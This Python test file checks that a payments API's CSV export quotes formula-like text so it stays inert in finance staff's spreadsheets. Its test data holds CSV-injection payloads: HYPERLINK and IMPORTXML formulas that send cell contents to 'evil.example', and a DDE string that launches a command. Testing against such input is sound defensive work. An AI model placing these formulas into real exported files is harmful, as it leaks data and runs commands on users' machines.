"""The reconciliation CSV opens in finance staff's spreadsheets: no cell of it may be read as a
formula (issue 16, item 6; OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from csoapi.citations.models import Payment
from csoapi.core.models import utcnow
from csoapi.core.spreadsheet import spreadsheet_cell
from tests.citations.helpers import CITATIONS, citation_body, schedule
from tests.factories import headers_for

PAYMENTS = "/api/v1/payments"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for your refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.fixture
def desk(db, settings):
    schedule(db, settings)
    return {
        "cso": headers_for(db, settings, "cso"),
        "records": headers_for(db, settings, "records"),
        "portal": headers_for(db, settings, "payment_portal"),
    }


async def post_payment(client, desk, reference: str) -> dict:
    r = await client.post(CITATIONS, json=citation_body(), headers=desk["cso"])
    assert r.status_code == 201, r.text
    r = await client.post(
        f"{CITATIONS}/{r.json()['id']}/payments",
        json={"amount_cents": 1500, "method": "card", "reference": reference},
        headers=desk["portal"] | {"Idempotency-Key": str(uuid.uuid4())},
    )
    assert r.status_code == 201, r.text  # accepted as sent: the reference is the portal's own
    return r.json()


async def export(client, desk) -> list[dict[str, str]]:
    r = await client.get(PAYMENTS, headers=desk["records"] | {"Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    return list(csv.DictReader(io.StringIO(r.text)))


async def test_formula_like_text_is_inert_in_the_csv_and_exact_in_json(client, db, desk):
    posted = {ref: await post_payment(client, desk, ref) for ref in [*HOSTILE, "txn-1"]}
    reversed_ = posted["txn-1"]
    r = await client.post(
        f"{PAYMENTS}/{reversed_['id']}/reverse",
        json={"reason": '=IMPORTXML(CONCAT("http://evil.example/",B2),"//a")'},
        headers=desk["records"],
    )
    assert r.status_code == 201, r.text
    reversal = r.json()
    # A tab or a carriage return cannot start a reference or a reason sent to the API today
    # (printable references, trimmed reasons), but a row written otherwise (an import, an
    # older version) is exported by the same code.
    original = db.get(Payment, uuid.UUID(reversed_["id"]))
    for i, ref in enumerate(("\t=1+1", "\r=1+1")):
        db.add(
            Payment(
                citation_id=original.citation_id,
                kind="payment",
                amount_cents=10 + i,
                method="cash",
                reference=ref,
                paid_at=utcnow(),
                paid_on=original.paid_on,
                posted_by="user:clerk",
            )
        )
    db.commit()

    rows = {row["id"]: row for row in await export(client, desk)}
    for ref in HOSTILE:
        assert rows[posted[ref]["id"]]["reference"] == "'" + ref
    assert rows[reversed_["id"]]["reference"] == "txn-1"  # ordinary text as it is
    assert rows[reversal["id"]]["reason"] == "'" + reversal["reason"]
    assert rows[reversal["id"]]["reference"] == "txn-1"
    by_amount = {row["amount_cents"]: row for row in rows.values()}
    assert (by_amount["10"]["reference"], by_amount["11"]["reference"]) == ("'\t=1+1", "'\r=1+1")
    # No cell of the file starts like a formula; numbers and times are untouched.
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
        assert int(row["amount_cents"]) > 0
    assert rows[reversal["id"]]["amount_cents"] == "1500"
    assert rows[reversal["id"]]["posted_at"] == reversal["posted_at"]
    # The JSON listing gives every value exactly as stored.
    items = (await client.get(PAYMENTS, headers=desk["records"])).json()["items"]
    assert {p["reference"] for p in items} >= {*HOSTILE, "txn-1", "\t=1+1", "\r=1+1"}
    assert reversal["reason"] in {p["reason"] for p in items}


def test_only_text_is_quoted_so_numbers_stay_numbers():
    assert spreadsheet_cell(-1500) == -1500  # a negative amount is a number, not a formula
    assert spreadsheet_cell(0) == 0 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("-1500") == "'-1500"  # in a text column it is text
    assert spreadsheet_cell("card") == "card" and spreadsheet_cell("") == ""
    assert spreadsheet_cell("a=b") == "a=b"  # only a formula's first character matters
